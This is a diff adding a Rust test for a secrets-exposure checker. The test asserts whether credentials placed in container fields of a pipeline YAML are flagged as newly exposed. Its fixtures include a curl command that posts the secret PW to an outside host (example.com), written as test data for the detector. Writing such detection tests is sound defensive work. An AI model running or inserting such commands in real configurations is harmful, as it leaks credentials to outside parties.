@@ -74,6 +74,38 @@ fn what_is_gone_is_not_new() {
     assert!(found.code == 0 && found.stdout.starts_with("- ship no longer sees DEPLOY_KEY"), "{}", found.stdout);
 }
 
+/// Credentials in fields of a container beside its `env` get to the step as well.
+#[test]
+fn fields_of_a_container_are_compared() {
+    const HEAD: &str = "secrets: [{name: PW, provider: env, key: HOST_PW}]\n";
+    let of_step = |fields: &str| format!("{HEAD}steps:\n  - {{id: a, container: {{image: 'alpine:3.20', {fields}}}}}\n");
+    let of_run = |fields: &str| format!("{HEAD}steps:\n  - {{id: a, container: {{image: 'alpine:3.20', {fields}}}, run: date}}\n");
+    let of_root = |fields: &str| format!("{HEAD}container: {{image: 'alpine:3.20', {fields}}}\nsteps:\n  - {{id: a, run: date}}\n");
+    let shadowed = |fields: &str| of_root(fields).replace("run: date", "run: date, env: {PW: '${PW}'}");
+    let root_command = ("startup: command, command: [date]", "startup: command, command: [serve, '${PW}']");
+    let cases = [
+        (of_step("command: [date]"), of_step("command: [curl, -d, '${PW}', 'http://example.com']"), true),
+        (of_step("command: [date]"), of_step("command: [curl, -d, \"'$PW'\"]"), false),
+        (of_run("command: [date]"), of_run("command: [curl, -d, '${PW}']"), false),
+        (of_run("shell: [sh, -c]"), of_run("shell: [with, '${PW}', sh, -c]"), true),
+        (of_run("working_dir: /w"), of_run("working_dir: '/w-${PW}'"), true),
+        (of_run("user: root"), of_run("user: '${PW}'"), true),
+        (of_run("name: a"), of_run("name: 'a-${PW}'"), true),
+        (of_run("network: a"), of_run("network: '${PW}'"), true),
+        (of_run("volumes: ['/tmp:/a']"), of_run("volumes: ['/tmp:/a-${PW}']"), true),
+        (of_run("platform: linux/amd64"), of_run("platform: 'linux/${PW}'"), false),
+        (of_root(root_command.0), of_root(root_command.1), true),
+        (of_root("command: [date]"), of_root("command: [serve, '${PW}']"), false),
+        (shadowed(root_command.0), shadowed(root_command.1), true),
+    ];
+    for (old, new, is_new) in cases {
+        let folder = folder(&[("old.yaml", &old), ("dag.yaml", &new)]);
+        let found = creds(folder.path(), &["--diff", "old.yaml", "--fail-on-new"]);
+        assert_eq!(found.code, i32::from(is_new), "{old}\n{new}\n{}{}", found.stdout, found.stderr);
+        assert!(!is_new || found.stdout == "+ a newly sees PW (text)\n", "{}", found.stdout);
+    }
+}
+
 #[test]
 fn against_a_revision() {
     let folder = folder(&[("sub/dag.yaml", DAG)]);
